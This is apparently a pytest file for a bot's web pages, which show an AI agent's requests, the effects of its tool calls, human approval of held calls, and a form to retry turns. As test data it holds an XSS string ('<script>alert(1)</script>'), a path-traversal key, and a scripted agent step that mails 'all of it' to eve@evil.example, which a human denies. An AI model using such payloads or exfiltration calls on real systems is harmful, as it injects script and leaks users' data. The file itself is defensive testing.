"""The pages of a turn's requests, as Claude's stand-in read them, and of what the calls of a turn have done."""

import json
import re
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, closing
from html import unescape
from pathlib import Path

import pytest

from bot.app import BotServices
from bot.core.messages import Address, OutboundKind, PersonId, Sender
from bot.core.page_words import MAX_WORDS_CHARACTERS
from bot.core.role import LEAD_ROLE_NAME
from bot.core.texts import forks, people_holds
from bot.ops import request_texts as verdicts
from bot.ops.control.forks import FORK_REQUEST, make_fork_answerer
from bot.ops.control.page_words import PAGE_REQUEST, make_page_answerer
from bot.ops.control.server import ControlServer
from bot.web_page import request_texts as texts
from tests.stand_ins.claude import ToolUse, reply
from tests.support.bench import Bench
from tests.support.claude_bot import Talk, open_talk
from tests.support.fakes import last_text, role, uses
from tests.support.fakes import reply as says
from tests.support.mailing import Post
from tests.web_page.conftest import SECRET, VERSION, Visitor, serve_page

HOSTILE = "<script>alert(1)</script>"


@pytest.fixture
async def talk(tmp_path: Path) -> AsyncIterator[Talk]:
    """A turn in which the lead has a role work, changes something, and answers."""
    async with open_talk(tmp_path) as talk:
        delegated = reply(ToolUse("delegate", {"role": "analyst", "task": "look"}), ToolUse("change", {"to": HOSTILE}))
        talk.server.script.say(delegated, "all is done", system="the lead")
        talk.server.script.say(reply(ToolUse("change", {"what": "deep"})), "found", system="the analyst")
        async with talk.run():
            await talk.ask(f"change it {HOSTILE}")
        yield talk


@pytest.fixture
async def visitor(talk: Talk) -> AsyncIterator[Visitor]:
    async with serve_page(talk.bench) as visitor:
        yield visitor


async def test_a_turns_requests_are_listed_with_what_was_sent(visitor: Visitor, talk: Talk) -> None:
    page = await visitor.text("/requests/t1")
    assert page.count(verdicts.AS_SENT()) == 2
    numbers = [id for (id,) in talk.bench.select("id", "requests", "turn = 't1'", "id")]
    assert all(f'href="/requests/{number}"' in page for number in numbers)
    assert (await visitor.get("/requests/t99")).status_code == 404
    assert (await visitor.get("/requests/" + "9" * 5_000)).status_code == 404
    assert (await visitor.get(f"/requests/{10**30}")).status_code == 404


async def test_a_request_is_shown_whole_and_no_text_is_html(visitor: Visitor) -> None:
    page = await visitor.text("/requests/1")
    assert verdicts.AS_SENT() in page
    for shown in ("You are the lead", "input_schema", "max_tokens", "change it &lt;script&gt;"):
        assert shown in page
    assert page.count("<script") == 1  # the page's own


async def test_its_json_is_what_the_server_has_read(visitor: Visitor, talk: Talk) -> None:
    for request in talk.server.requests:
        answer = await visitor.get(f"/requests/{request.number}/json")
        assert answer.headers["content-type"] == "application/json"
        found = json.loads(answer.text)
        assert (found["body"], found["is_as_sent"]) == (request.body, True)
        assert len(found["digest"]) == 64


async def test_after_a_change_the_page_says_what_differs(visitor: Visitor, talk: Talk) -> None:
    with closing(sqlite3.connect(talk.bench.data / "bot.db", isolation_level=None)) as db:
        db.execute("UPDATE prefixes SET body = json_set(body, '$.system', 'You are another.')")
    page = await visitor.text("/requests/t1")
    assert page.count(verdicts.DIFFERS(parts=verdicts.PARTS["system"]())) == 2


async def test_the_pages_are_only_for_who_is_logged_in(visitor: Visitor) -> None:
    visitor.forget_login()
    answers = [await visitor.get(path) for path in ("/requests/t1", "/requests/1", "/requests/1/json", "/effects/t1")]
    assert [(each.status_code, each.headers["location"]) for each in answers] == [(303, "/login")] * 4


async def test_each_effect_shows_message_request_call_and_record(visitor: Visitor, talk: Talk) -> None:
    page = await visitor.text("/effects/t1")
    assert "change it &lt;script&gt;" in page
    calls = talk.bench.select("id, turn", "calls", "name = 'change'", "id")
    requests = dict(talk.bench.select("turn, min(id)", "requests", "TRUE GROUP BY turn"))
    for call, turn in calls:
        assert call in page
        assert texts.REQUEST_OF(number=requests[turn], turn=turn) in page
    assert len(calls) == page.count(texts.NOBODY_ASKED()) == 2
    assert page.count('<div class="said" tabindex="0">changed</div>') == 2
    below = await visitor.text(f"/effects/{calls[-1][1]}")
    assert "deep" in below


async def test_a_held_call_shows_who_was_asked_and_what_they_said(bench: Bench) -> None:
    post = Post()
    bench.roles[LEAD_ROLE_NAME] = role("lead", "browse", "mail")
    bench.model.says("lead", says(uses("browse")), says(uses("mail", to="eve@evil.example", text="all of it")), "Done.")
    async with bench.run(tools=post.tools()), serve_page(bench) as visitor:
        bench.chat.hears("What does the page say?")
        asked = await bench.chat.part(OutboundKind.APPROVAL)
        waiting = await visitor.text("/effects/t1")
        bench.chat.taps(asked.message.id, people_holds.DENY())
        await bench.chat.said(OutboundKind.REPLY)
        page = await visitor.text("/effects/t1")
    assert texts.WAITS_FOR_PERSON() in unescape(waiting)
    assert texts.ASKED_PERSON(person="Ann", state="answered") in page
    assert texts.ANSWERED(answer=people_holds.DENY()) in page
    assert post.sent == []


@asynccontextmanager
async def forking_page(bench: Bench) -> AsyncIterator[Visitor]:
    """A bot that answers on its control socket, and a visitor of its page. Ann has asked something."""
    here, owner = Address(channel="fake", chat="own"), Sender(id=PersonId("Owner"), name="Owner")

    async def serve(services: BotServices) -> None:
        answer = make_fork_answerer(services.forks, here, owner, VERSION)
        answerers = {FORK_REQUEST: answer, PAGE_REQUEST: make_page_answerer(services.page, VERSION)}
        await ControlServer(bench.data, answerers).run()

    bench.model.says("lead", "first", "again", "more")
    async with bench.run(serve_control_socket=serve), serve_page(bench) as visitor:
        bench.chat.hears("plan <it>")
        await bench.chat.said(OutboundKind.REPLY)
        yield visitor


async def test_a_turn_is_tried_again_by_a_form(bench: Bench) -> None:
    async with forking_page(bench) as visitor:
        assert 'href="/forks/t1"' in await visitor.text("/turns/t1")
        form = await visitor.text("/forks/t1")
        assert "plan &lt;it&gt;</textarea>" in form
        key = re.search(r'name="key" value="([^"]+)"', form)
        assert key
        sent = [await visitor.post("/forks/t1", key=key[1], words="plan that", model="") for _ in range(2)]
        await bench.chat.said(OutboundKind.REPLY)
        assert [each.status_code for each in sent] == [303, 303]
        assert sent[0].headers["location"] == sent[1].headers["location"]
        made = sent[0].headers["location"]
        assert "plan that" in await visitor.text(made)
        assert (await visitor.post(f"{made}/words", form="f", words="go on")).status_code == 303
        assert await bench.chat.said(OutboundKind.REPLY) == "more"
    assert ["plan that" in last_text(request) for request in bench.model.asked("lead")] == [False, True, False]
    assert "go on" in last_text(bench.model.asked("lead")[-1])


async def test_a_form_that_is_refused_comes_back_with_its_words(bench: Bench) -> None:
    async with forking_page(bench) as visitor:
        answer = await visitor.post("/forks/t1", key="k", words="plan that", model="gpt")
        assert answer.status_code == 409
        assert "plan that</textarea>" in answer.text
        assert "gpt" in answer.text
        assert (await visitor.get("/forks/t9")).status_code == 404
        visitor.forget_login()
        assert (await visitor.post("/forks/t1", key="k", words="x", model="")).headers["location"] == "/login"
    assert bench.count("sessions") == 1


async def test_words_of_others_that_hold_a_secret_and_are_left_as_shown_stay_theirs(bench: Bench) -> None:
    async with forking_page(bench) as visitor:
        bench.chat.hears(f"use {SECRET}")
        await bench.chat.said(OutboundKind.REPLY)
        shown = re.search(r">([^<]*)</textarea>", await visitor.text("/forks/t2"))
        assert shown
        assert SECRET not in shown[1]
        await visitor.post("/forks/t2", key="k", words=shown[1], model="")
        await bench.chat.said(OutboundKind.REPLY)
    asked = last_text(bench.model.asked("lead")[-1])
    assert SECRET in asked
    assert asked.index("Ann") < asked.index(SECRET)  # quoted, as hers


@pytest.mark.parametrize("key", ["", "../x", "a" * 65])
async def test_a_key_that_is_none_of_a_form_is_refused(bench: Bench, key: str) -> None:
    async with forking_page(bench) as visitor:
        assert (await visitor.post("/forks/t1", key=key, words="x", model="")).status_code == 400


async def test_a_form_takes_as_many_characters_as_the_bot_whatever_they_are(bench: Bench) -> None:
    async with forking_page(bench) as visitor:
        answer = await visitor.post("/forks/t1", key="k", words="😀" * MAX_WORDS_CHARACTERS, model="")
        assert answer.status_code == 303


async def test_without_a_bot_the_form_says_so(visitor: Visitor) -> None:
    answer = await visitor.post("/forks/t1", key="k", words="x", model="")
    assert forks.BOT_AWAY() in unescape(answer.text)
